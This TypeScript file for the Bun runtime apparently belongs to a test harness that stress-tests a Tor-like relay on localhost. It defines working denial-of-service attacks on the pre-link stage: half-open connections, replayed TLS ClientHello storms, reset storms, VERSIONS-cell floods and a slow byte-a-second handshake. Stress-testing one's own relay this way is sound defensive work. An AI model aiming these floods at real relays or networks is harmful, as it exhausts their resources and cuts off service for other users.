/** Attacks on what comes before a link is open: sockets, TLS, the link handshake. */
import type { Socket } from 'bun';
import { type Attack, type AttackPlan, Pace } from './attack.ts';

type Tally = Record<string, number>;

/** Plain TCP from the attacker's address; TLS when `tls`. */
function connect<T>(plan: AttackPlan, handlers: Record<string, unknown>, tls = false): Promise<Socket<T>> {
  const options = {
    hostname: '127.0.0.1',
    port: plan.port,
    localAddress: plan.from,
    socket: { data() {}, error() {}, drain() {}, close() {}, ...handlers },
    ...(tls ? { tls: { rejectUnauthorized: false } } : {}),
  };
  return Bun.connect(options as unknown as Parameters<typeof Bun.connect>[0]) as Promise<Socket<T>>;
}

/** A ClientHello as this machine's TLS sends it. The relay cannot tell a second use of it from the first. */
export async function recordClientHello(): Promise<Uint8Array> {
  const { promise, resolve } = Promise.withResolvers<Uint8Array>();
  const listener = Bun.listen({
    hostname: '127.0.0.1',
    port: 0,
    socket: {
      data(socket, bytes) {
        resolve(new Uint8Array(bytes));
        socket.terminate();
      },
      error() {},
    },
  });
  await connect({ port: listener.port, from: '127.0.0.1' } as AttackPlan, {}, true).catch(() => {});
  const hello = await promise;
  listener.stop(true);
  return hello;
}

/** Connections that stay as they are: nothing said, half a ClientHello, a whole one; again as the relay ends them. */
export class HalfOpen implements Attack {
  readonly tally: Tally = { connects: 0, closed: 0, failed: 0 };
  readonly #sockets = new Set<Socket>();
  readonly #pace: Pace;
  #hello: Uint8Array = new Uint8Array(0);

  constructor(plan: AttackPlan) {
    this.#pace = new Pace(plan.connectsPerSec, () => {
      const kind = this.tally['connects']! % 3;
      this.tally['connects']! += 1;
      const opened = connect(plan, {
        open: (socket: Socket) => {
          this.#sockets.add(socket);
          if (kind > 0) socket.write(kind === 1 ? this.#hello.subarray(0, 100) : this.#hello);
        },
        close: (socket: Socket) => {
          this.#sockets.delete(socket);
          this.tally['closed']! += 1;
        },
      });
      opened.catch(() => {
        this.tally['failed']! += 1;
      });
    });
  }

  async start(): Promise<void> {
    this.#hello = await recordClientHello();
    this.#pace.start();
  }

  async stop(): Promise<void> {
    this.#pace.stop();
    for (const socket of this.#sockets) socket.terminate();
  }
}

/** ClientHellos that cost the relay a signature each, and the sender nothing: sent, and hung up. */
export class HelloStorm implements Attack {
  readonly tally: Tally = { connects: 0, answered: 0, failed: 0 };
  readonly #pace: Pace;
  #hello: Uint8Array = new Uint8Array(0);

  constructor(plan: AttackPlan) {
    this.#pace = new Pace(plan.connectsPerSec, () => {
      this.tally['connects']! += 1;
      connect(plan, {
        open: (socket: Socket) => {
          socket.write(this.#hello);
        },
        data: (socket: Socket) => {
          this.tally['answered']! += 1;
          socket.terminate();
        },
      }).catch(() => {
        this.tally['failed']! += 1;
      });
    });
  }

  async start(): Promise<void> {
    this.#hello = await recordClientHello();
    this.#pace.start();
  }

  async stop(): Promise<void> {
    this.#pace.stop();
  }
}

/** Connections reset as soon as they are made. */
export class ResetStorm implements Attack {
  readonly tally: Tally = { connects: 0, failed: 0 };
  readonly #pace: Pace;

  constructor(plan: AttackPlan) {
    this.#pace = new Pace(plan.connectsPerSec, () => {
      this.tally['connects']! += 1;
      connect(plan, { open: (socket: Socket) => socket.terminate() }).catch(() => {
        this.tally['failed']! += 1;
      });
    });
  }

  async start(): Promise<void> {
    this.#pace.start();
  }

  async stop(): Promise<void> {
    this.#pace.stop();
  }
}

/** Sends something over TLS and starts anew when the relay closes. */
abstract class Reconnecting implements Attack {
  readonly tally: Tally = { connects: 0, secured: 0, closed: 0, failed: 0 };
  readonly #plan: AttackPlan;
  readonly #pace: Pace;
  protected readonly sockets = new Set<Socket>();

  constructor(plan: AttackPlan) {
    this.#plan = plan;
    this.#pace = new Pace(plan.connectsPerSec, () => {
      if (this.sockets.size < plan.links) this.#dial();
    });
  }

  #dial(): void {
    this.tally['connects']! += 1;
    const opened = connect(
      this.#plan,
      {
        open: (socket: Socket) => {
          this.sockets.add(socket);
        },
        handshake: (socket: Socket) => {
          this.tally['secured']! += 1;
          this.onSecured(socket);
        },
        close: (socket: Socket) => {
          this.sockets.delete(socket);
          this.tally['closed']! += 1;
        },
      },
      true,
    );
    opened.catch(() => {
      this.tally['failed']! += 1;
    });
  }

  protected abstract onSecured(socket: Socket): void;

  async start(): Promise<void> {
    this.#pace.start();
  }

  async stop(): Promise<void> {
    this.#pace.stop();
    for (const socket of this.sockets) socket.terminate();
  }
}

/** VERSIONS with protocols 4 and 5, with two-byte circuit id. */
const VERSIONS = Uint8Array.of(0, 0, 7, 0, 4, 0, 4, 0, 5);

/** VERSIONS again and again on every link, behind the first that is allowed. */
export class VersionsFlood extends Reconnecting {
  protected onSecured(socket: Socket): void {
    const flood = new Uint8Array(VERSIONS.length * 1000);
    for (let at = 0; at < flood.length; at += VERSIONS.length) flood.set(VERSIONS, at);
    socket.write(flood);
  }
}

/** A byte a second of a handshake that would be right. */
export class Trickle extends Reconnecting {
  readonly #sent = new Map<Socket, number>();
  #timer: ReturnType<typeof setInterval> | null = null;

  protected onSecured(socket: Socket): void {
    this.#sent.set(socket, 0);
    this.#timer ??= setInterval(() => {
      for (const [each, sent] of this.#sent) {
        if (!this.sockets.has(each)) {
          this.#sent.delete(each);
          continue;
        }
        // A long VPADDING behind the VERSIONS, body and all.
        const byte = sent < VERSIONS.length ? VERSIONS[sent]! : sent === VERSIONS.length + 4 ? 128 : 0;
        each.write(Uint8Array.of(byte));
        this.#sent.set(each, sent + 1);
      }
    }, 1000);
  }

  override async stop(): Promise<void> {
    if (this.#timer !== null) clearInterval(this.#timer);
    await super.stop();
  }
}
